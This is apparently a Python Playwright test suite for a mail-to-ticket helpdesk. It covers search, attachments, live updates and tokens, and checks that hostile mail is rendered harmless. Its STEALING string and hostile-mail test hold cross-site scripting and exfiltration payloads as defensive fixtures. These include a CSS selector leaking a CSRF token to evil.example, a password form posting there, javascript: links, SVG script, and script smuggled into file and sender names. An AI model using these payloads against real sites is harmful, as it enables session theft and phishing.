"""The list and a ticket in a real browser: usable by everybody, and harmless whatever a mail holds."""

import re
import struct
import zlib

import pytest
from playwright.async_api import Page, expect

from maildock.flow.context import Context
from maildock.tables.tenants import Tenant
from tests.desk import Desk
from tests.mail import Mail, mail
from tests.pdf import pdf
from tests.web.browser.axe import violations
from tests.web.browser.conftest import Browser
from tests.web.test_pages_sanitise import ATTACKS

pytestmark = pytest.mark.browser

PDF = pdf("A note")
HEBREW = "\u05d4\u05de\u05d3\u05e4\u05e1\u05ea \u05e9\u05d1\u05d5\u05e8\u05d4 (2024)"
VIOLATIONS = """() => {
  window.violated = [];
  document.addEventListener("securitypolicyviolation", event => {
    window.violated.push(`${event.violatedDirective} ${event.blockedURI}`);
  });
}"""
STEALING = (
    "<style>input[name=csrf][value^=a]{background:url(https://evil.example/a)}</style>"
    "<link rel=stylesheet href='https://evil.example/x.css'>"
    "<p style='background-image:url(https://evil.example/b)'>styled</p>"
    "<a href='javascript:document.title=1' id=csrf>click me</a><a href='/logout'>or me</a>"
    "<svg><script>document.title='won'</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>"
    "<div data-hx-get='/logout' data-hx-trigger=load hx-on:click='alert(1)'>htmx</div>"
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>"
)


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + b"\x20\x80\xf0" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


@pytest.fixture
def desk(context: Context, tenant: Tenant) -> Desk:
    return Desk(context, tenant)


def full() -> tuple[Mail, ...]:
    first = mail("Printer on fire", sender="Ada Byron <ada@customer.example>")
    first = first.html("<p>Help!</p><img src='https://evil.example/1.gif'><blockquote>Earlier</blockquote>")
    first = first.attach("a.pdf", PDF).attach("a.png", png(60, 40)).attach("a.txt", b"plain <b>text</b>")
    return (
        first,
        mail(text="Again.\n\n> Help!").reply_to(first).attach("b.png", png(60, 40)).attach("a.html", b"<script>"),
        mail(HEBREW, sender=f"{HEBREW} <dov@customer.example>", text=HEBREW).attach(f"{HEBREW}.pdf", PDF),
    )


async def document(page: Page, name: str) -> str:
    link = page.get_by_role("link", name=name, exact=True)
    return str(await link.get_attribute("href"))


async def test_the_list_narrows_while_one_types(browser: Browser, desk: Desk) -> None:
    await desk.ingest(*full(), mail("Screen"))
    page = browser.page
    await page.goto(browser.origin)
    await page.get_by_role("searchbox").press_sequentially("prin")
    await expect(page.get_by_role("link", name="Screen")).to_have_count(0)
    await expect(page.get_by_role("link", name="Printer on fire")).to_be_visible()
    await expect(page).to_have_url(re.compile(r"\?q=prin$"))
    await page.reload()
    await expect(page.get_by_role("searchbox")).to_have_value("prin")
    await expect(page.get_by_role("link", name="Screen")).to_have_count(0)


@pytest.mark.parametrize("loaded", [False, True])
async def test_a_hostile_mail_does_nothing(browser: Browser, desk: Desk, *, loaded: bool) -> None:
    hostile = mail("<img src=x onerror=alert(1)>", sender='"<script>alert(1)</script>" <eve@a.example>')
    picture = "https://127.0.0.1:9999/1.gif"
    await browser.page.route(picture, lambda route: route.fulfill(body=png(1, 1), content_type="image/png"))
    hostile = hostile.html(
        f'<img src="{picture}">' + STEALING + "".join(ATTACKS).replace("//evil.example", "https://127.0.0.1:1")
    )
    hostile = hostile.attach(
        "<svg onload=alert(1)>.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    )
    await desk.ingest(hostile.attach('"><script>alert(2)</script>.html', b"<script>alert(3)</script>"))
    page, alerts = browser.page, list[str]()
    page.on("dialog", lambda dialog: alerts.append(dialog.message))
    await page.add_init_script(f"({VIOLATIONS})()")
    await page.goto(f"{browser.origin}/tickets/1")
    if loaded:
        await page.get_by_role("link", name="Load pictures").click()
    await page.wait_for_load_state("networkidle")
    for summary in await page.locator("summary").all():
        await summary.click()
    assert await page.evaluate("window.violated") == []
    assert "won" not in await page.title()
    assert await page.locator(".mail :is(script, style, form, input, button, svg, iframe, [style], [id])").count() == 0
    assert await page.locator(".mail a:not([href^='https:'])[href]").count() == 0
    assert alerts == []
    assert (await page.request.get(f"{browser.origin}/mail", max_redirects=0)).status == 200
    assert browser.requests.count(picture) == loaded
    browser.requests[:] = [url for url in browser.requests if url != picture]


HIDDEN = """() => {
    Object.defineProperty(document, "hidden", { value: true, configurable: true });
    document.dispatchEvent(new Event("visibilitychange"));
}"""
SEEN_AGAIN = HIDDEN.replace("true, ", "false, ")


async def test_right_to_left_text_keeps_to_itself(browser: Browser, desk: Desk) -> None:
    await desk.ingest(*full())
    page = browser.page
    await page.goto(browser.origin)
    subject = page.get_by_text(HEBREW).first
    assert await subject.evaluate("element => getComputedStyle(element).direction") == "rtl"
    assert await page.evaluate("getComputedStyle(document.body).direction") == "ltr"


async def test_the_same_file_unfolds(browser: Browser, desk: Desk) -> None:
    await desk.ingest(*full())
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    await expect(page.get_by_role("link", name="b.png")).to_be_hidden()
    await page.get_by_text("Came 2 times").click()
    await expect(page.get_by_role("link", name="b.png")).to_be_visible()


async def test_many_documents_stay_beside_what_is_said(browser: Browser, desk: Desk) -> None:
    first = mail("Scans")
    for number in range(60):
        first = first.attach(f"{number}.txt", f"scan {number}".encode())
    await desk.ingest(first)
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    panel = page.get_by_role("complementary", name="Documents 60")
    assert await page.evaluate("document.documentElement.scrollHeight") < 1000
    await panel.evaluate("panel => { panel.scrollTop = 500; }")
    await desk.ingest(mail(text="One more.").reply_to(first).attach("more.txt", b"more"))
    panel = page.get_by_role("complementary", name="Documents 61")
    await expect(panel).to_be_visible(timeout=15_000)
    assert await panel.evaluate("panel => panel.scrollTop") == 500


async def test_a_file_appears_while_one_looks(browser: Browser, desk: Desk) -> None:
    first = mail("Printer")
    await desk.ingest(first)
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    await expect(page.get_by_text("No mail of this ticket has brought a file.")).to_be_visible()
    await page.evaluate("window.same = true")
    await desk.receive(mail(text="Here it is.").reply_to(first).attach("a.txt", b"a"))
    await expect(page.get_by_role("link", name="a.txt", exact=True)).to_be_visible(timeout=15_000)
    await expect(page.get_by_text("This ticket has changed.")).to_be_visible()
    assert await page.evaluate("window.same")


async def test_a_file_appears_while_one_stands_in_the_panel(browser: Browser, desk: Desk) -> None:
    first = mail("Printer").attach("a.txt", b"a")
    await desk.ingest(first)
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    summary = page.locator(".files summary").first
    await summary.click()
    await desk.ingest(mail(text="More.").reply_to(first).attach("b.txt", b"b"))
    await expect(page.get_by_role("link", name="b.txt", exact=True)).to_be_visible(timeout=15_000)
    # The one that was opened is open and under the fingers still, wherever it is now.
    opened = page.locator(".files li", has_text="a.txt").locator("details[open] summary")
    await expect(opened).to_be_focused()
    assert await page.locator(".jump").inner_text() == "2 documents"


async def test_a_search_leaves_one_step_in_the_history(browser: Browser, desk: Desk) -> None:
    await desk.ingest(mail("Printer"))
    page = browser.page
    await page.goto(f"{browser.origin}/mail")
    await page.goto(browser.origin)
    await page.get_by_role("searchbox").press_sequentially("print", delay=400)
    await expect(page).to_have_url(re.compile(r"\?q=print$"))
    await page.go_back()
    await expect(page).to_have_url(f"{browser.origin}/mail")


async def test_a_person_makes_a_token_and_leaves_everywhere(browser: Browser) -> None:
    page = browser.page
    await page.goto(f"{browser.origin}/tokens")
    await page.get_by_label("Name of a new token").fill("Import")
    await page.get_by_role("button", name="Make a token").click()
    await expect(page.get_by_role("status")).to_contain_text("mdk_")
    assert await violations(page) == []
    await page.get_by_role("button", name="Revoke Import").click()
    await expect(page.get_by_text("revoked")).to_be_visible()
    await page.get_by_role("link", name="ann@shop.example").click()
    await page.get_by_role("button", name="Sign out everywhere").click()
    await expect(page.get_by_role("heading", name="Log in")).to_be_visible()
    assert await violations(page) == []


async def test_any_number_of_tickets_may_be_open(browser: Browser, desk: Desk) -> None:
    first = mail("Printer")
    await desk.ingest(first)
    page = browser.page
    await page.goto(f"{browser.origin}/tickets/1")
    for _ in range(7):
        # As a browser does once another tab is looked at; without a screen it takes all for visible.
        await page.evaluate(HIDDEN)
        async with page.expect_popup() as opened:
            await page.evaluate("open(location.href)")
        page = await opened.value
        await expect(page.get_by_role("heading", name="Printer")).to_be_visible()
    await page.evaluate(HIDDEN)
    await desk.ingest(mail().reply_to(first).attach("late.txt", b"late"))
    await browser.page.evaluate(SEEN_AGAIN)
    await expect(browser.page.get_by_role("link", name="late.txt", exact=True)).to_be_visible(timeout=15_000)
